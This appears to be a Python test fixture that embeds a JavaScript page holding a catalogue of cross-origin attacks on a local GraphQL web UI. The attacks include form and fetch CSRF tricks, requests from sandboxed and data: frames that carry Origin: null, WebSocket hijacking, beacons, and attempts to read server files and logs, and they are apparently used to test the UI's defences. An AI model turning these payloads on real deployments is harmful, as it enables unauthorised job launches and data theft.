"""The ways in which a page can reach for an address of another origin, as the script of a page that tries them."""

SCRIPT = r"""
const wait = milliseconds => new Promise(done => setTimeout(done, milliseconds));
const json = query => JSON.stringify({query});
const at = (v, query) => v.ui + '/graphql?query=' + encodeURIComponent(query);
const add = html => { const place = document.createElement('div'); place.innerHTML = html; document.body.append(place); return place; };

function frame(attributes) {
  const one = document.createElement('iframe');
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
  document.body.append(one);
  return one;
}

function form(v, method, kind, fields, target = v.ui + '/graphql') {
  const name = 'target' + Math.random();
  frame({name});
  const one = document.createElement('form');
  Object.assign(one, {method, action: target, enctype: kind, target: name});
  for (const [key, value] of Object.entries(fields)) {
    const input = document.createElement('textarea');
    input.name = key; input.value = value; one.append(input);
  }
  document.body.append(one);
  one.submit();
}

async function sent(v, options, target = v.ui + '/graphql') {
  let read = '';
  for (const query of [v.state, v.stop, v.launch]) {
    try {
      const answer = await fetch(target, {body: json(query), method: 'POST', ...options});
      read += answer.type === 'opaque' || !answer.ok ? '' : await answer.text();
    } catch (error) { }
  }
  return read;
}

function socket(v, protocol, start) {
  return new Promise(done => {
    let read = '';
    const one = new WebSocket(v.ui.replace('http', 'ws') + '/graphql', protocol);
    one.onmessage = message => { read += message.data; };
    one.onopen = () => {
      one.send(JSON.stringify({type: 'connection_init', payload: {}}));
      [v.state, v.stop, v.launch, 'subscription { capturedLogs(logKey: ["x"]) { stdout } }'].forEach((query, id) =>
        one.send(JSON.stringify({id: String(id), type: start, payload: {query, variables: {}}})));
    };
    one.onclose = one.onerror = () => done(read);
    setTimeout(() => done(read), 3000);
  });
}

const inside = (v, how) => `<script>
  const v = ${JSON.stringify(v)};
  const json = query => JSON.stringify({query});
  (async () => {
    let read = '';
    for (const query of [v.state, v.stop, v.launch]) {
      try {
        const answer = await fetch(v.ui + '/graphql', {method: 'POST', body: json(query), ${how}});
        if (answer.ok) read += await answer.text();
      } catch (error) { }
    }
    parent.postMessage(read, '*');
  })();
<\/script>`;

function framed(attributes) {
  return new Promise(done => {
    addEventListener('message', message => done(String(message.data)));
    frame(attributes);
    setTimeout(() => done(''), 4000);
  });
}

const attacks = {
  'GET form': async v => { form(v, 'get', '', {query: v.stop}); form(v, 'get', '', {query: v.launch}); },
  'urlencoded form': async v => { for (const query of [v.stop, v.launch]) form(v, 'post', 'application/x-www-form-urlencoded', {query}); },
  'multipart form': async v => { for (const query of [v.stop, v.launch]) form(v, 'post', 'multipart/form-data', {query, operations: json(query), map: '{}'}); },
  'text/plain form': async v => { for (const query of [v.stop, v.launch]) form(v, 'post', 'text/plain', {[json(query).slice(0, -1) + ',"x":"']: '"}'}); },
  'form with a query in its address': async v => { for (const query of [v.stop, v.launch]) form(v, 'post', 'text/plain', {x: 'y'}, at(v, query)); },
  'form that is redirected (307)': async v => { for (const query of [v.stop, v.launch]) form(v, 'post', 'text/plain', {x: 'y'}, '/redirect?query=' + encodeURIComponent(query)); },
  'top-level navigation to a query': async v => { window.open(at(v, v.stop)); window.open(at(v, v.launch)); },
  'fetch GET, no-cors': v => sent(v, {method: 'GET', body: undefined, mode: 'no-cors'}, at(v, v.launch)),
  'fetch GET, cors': v => sent(v, {method: 'GET', body: undefined}, at(v, v.state)),
  'fetch GET that says it wants a page': v => sent(v, {method: 'GET', body: undefined, headers: {Accept: 'text/html'}}, at(v, v.launch)),
  'fetch text/plain, no-cors': v => sent(v, {mode: 'no-cors', headers: {'Content-Type': 'text/plain'}}),
  'fetch JSON, no-cors': v => sent(v, {mode: 'no-cors', headers: {'Content-Type': 'application/json'}}),
  'fetch text/plain, cors': v => sent(v, {headers: {'Content-Type': 'text/plain'}}),
  'fetch JSON, cors with its preflight': v => sent(v, {headers: {'Content-Type': 'application/json'}}),
  'fetch JSON with credentials': v => sent(v, {credentials: 'include', headers: {'Content-Type': 'application/json'}}),
  'fetch without a content type': v => sent(v, {mode: 'no-cors', body: new Blob([json(v.launch)])}),
  'fetch GraphQL type': v => sent(v, {body: v.launch, headers: {'Content-Type': 'application/graphql'}}),
  'fetch PUT and DELETE': async v => await sent(v, {method: 'PUT', headers: {'Content-Type': 'application/json'}}) + await sent(v, {method: 'DELETE'}),
  'fetch that is redirected (307)': v => sent(v, {headers: {'Content-Type': 'application/json'}}, '/redirect'),
  'fetch without a referrer': v => sent(v, {mode: 'no-cors', referrerPolicy: 'no-referrer', headers: {'Content-Type': 'text/plain'}}),
  'keepalive fetch': v => sent(v, {mode: 'no-cors', keepalive: true}),
  'XMLHttpRequest': v => new Promise(done => {
    const one = new XMLHttpRequest();
    one.open('POST', v.ui + '/graphql');
    one.onload = () => done(one.status < 300 ? one.responseText : '');
    one.onerror = () => done('');
    one.send(json(v.launch));
  }),
  'beacon': async v => {
    for (const kind of ['text/plain', 'application/x-www-form-urlencoded', 'application/json'])
      navigator.sendBeacon(v.ui + '/graphql', new Blob([json(v.launch)], {type: kind}));
    navigator.sendBeacon(at(v, v.launch));
  },
  'websocket graphql-ws': v => socket(v, 'graphql-ws', 'start'),
  'websocket graphql-transport-ws': v => socket(v, 'graphql-transport-ws', 'subscribe'),
  'websocket without a protocol': v => socket(v, [], 'start'),
  'EventSource': v => new Promise(done => {
    const one = new EventSource(at(v, v.launch));
    one.onmessage = message => done(message.data);
    one.onerror = () => done('');
  }),
  'image, script, style sheet and media': async v => {
    const to = at(v, v.launch);
    add(`<img src="${to}"><link rel="stylesheet" href="${to}"><link rel="prefetch" href="${to}"><video src="${to}"></video>
      <object data="${to}"></object><embed src="${to}">`);
    for (const type of ['', 'module']) {
      const script = document.createElement('script');
      script.type = type; script.src = to; document.body.append(script);
    }
    const style = document.createElement('style');
    style.textContent = `@import url("${to}"); body { background: url("${to}"); }`;
    document.head.append(style);
  },
  'frame of the UI': async v => {
    const one = frame({src: v.ui + '/automation', style: 'opacity: 0'});
    await wait(1500);
    try { return one.contentDocument && one.contentDocument.body.innerText || ''; } catch (error) { return ''; }
  },
  'frame of a query': async v => {
    const one = frame({src: at(v, v.launch)});
    await wait(1500);
    try { return one.contentDocument && one.contentDocument.body.innerText || ''; } catch (error) { return ''; }
  },
  'sandboxed frame (Origin: null), text/plain': v => framed({sandbox: 'allow-scripts allow-forms', srcdoc: inside(v, "headers: {'Content-Type': 'text/plain'}")}),
  'sandboxed frame (Origin: null), JSON': v => framed({sandbox: 'allow-scripts', srcdoc: inside(v, "headers: {'Content-Type': 'application/json'}")}),
  'data: address (Origin: null)': v => framed({src: 'data:text/html,' + encodeURIComponent(inside(v, "headers: {'Content-Type': 'text/plain'}, mode: 'no-cors'"))}),
  'window that is opened and written to': async v => {
    const one = window.open(v.ui + '/automation');
    await wait(1500);
    try { one.postMessage({query: v.launch}, '*'); } catch (error) { }
    try { return one.document.body.innerText; } catch (error) { return ''; }
  },
  'reports of assets': async v => {
    for (const path of ['report_asset_materialization', 'report_asset_observation', 'report_asset_check'])
      await sent(v, {mode: 'no-cors', body: 'x'}, v.ui + `/${path}/catalog/facts?description=evil`);
  },
  'files and logs': async v => {
    let read = '';
    for (const path of ['/server_info', '/notebook?path=/etc/hostname&repoLocName=renxing', '/logs/x/compute_logs/y.err', '/download_debug/x', '/robots.txt'])
      read += await sent(v, {method: 'GET', body: undefined}, v.ui + path);
    return read;
  },
  'script of a static file': v => new Promise(done => {
    const one = document.createElement('script');
    one.src = v.ui + '/vendor/graphiql/graphiql.min.js';
    one.onload = () => done('a static script'); one.onerror = () => done('');
    document.body.append(one);
    setTimeout(() => done(''), 3000);
  }),
};

window.attack = async (name, values) => {
  const read = await attacks[name](values) || '';
  await wait(700);
  return read;
};
"""
"""What each attack returns is what the page could read; whether something changed is asked of the UI."""
PAGE = f"<!doctype html><meta charset=utf-8><title>another page</title><body><script>{SCRIPT}</script>"
ATTACKS = tuple(
    line.strip().split("':")[0].strip("'")
    for line in SCRIPT[SCRIPT.index("const attacks") :].splitlines()
    if line.startswith("  '")
)
"""What they are called."""
REFUSED_BY_BROWSERS = {"window that is opened and written to"}
"""Those that reach nothing even where nothing guards: a browser opens the page, as of any link, and keeps it to itself."""
